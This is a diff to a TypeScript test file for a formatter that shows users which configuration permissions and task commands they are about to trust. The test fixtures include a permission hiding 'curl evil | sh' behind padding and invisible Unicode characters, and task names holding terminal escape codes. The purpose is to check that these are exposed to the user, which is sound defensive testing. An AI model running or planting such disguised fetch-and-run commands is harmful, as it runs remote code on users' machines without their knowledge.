@@ -181,6 +181,7 @@ describe("the question about a configuration", () => {
     activates: [],
     refused: [],
     changes: [],
+    waiting: [],
     items: [],
     warnings: [],
   };
@@ -200,6 +201,45 @@ describe("the question about a configuration", () => {
       "  What runs without asking you",
       '    permissions[0] = "ls⟦5000 spaces⟧\\u{202e}; curl evil | sh\\u{200b}"',
       "Ignored, only your own configuration can set it: sandboxWritable\\x07",
+    ]);
+  });
+
+  test("lists definitions by kind: new ones with their details, changed ones with the difference", () => {
+    const item = { kind: "task", title: "Tasks that run commands", path: "tasks/x", sha256: "0".repeat(64) };
+    const fresh = { state: "untrusted" as const, changes: [] };
+    const lines = formatTrust(
+      {
+        ...description,
+        state: "changed",
+        waiting: [
+          { ...item, ...fresh, name: "build\u001b[2J", details: { command: "make\r" } },
+          {
+            ...item,
+            name: "test",
+            details: { command: "b" },
+            state: "changed",
+            changes: [{ key: "command", before: "a", after: "b" }],
+          },
+          { ...item, ...fresh, name: "other", title: "Others", details: {} },
+          { ...item, name: "more", details: {}, state: "changed", changes: [] },
+        ],
+      },
+      { maxItems: 2 },
+    );
+    expect(lines).toEqual([
+      "Directory  /w/app",
+      "File       /w/app/diligent.jsonc",
+      "It has changed since you trusted it.",
+      "Becomes active:",
+      "  Tasks that run commands",
+      "    build\\x1b[2J  (tasks/x)",
+      "      command = make\\r",
+      "    test  (tasks/x), changed:",
+      "      - command = a",
+      "      + command = b",
+      '    … and 1 more; "diligent trust" lists all of them',
+      "  Others",
+      "    other  (tasks/x)",
     ]);
   });
 
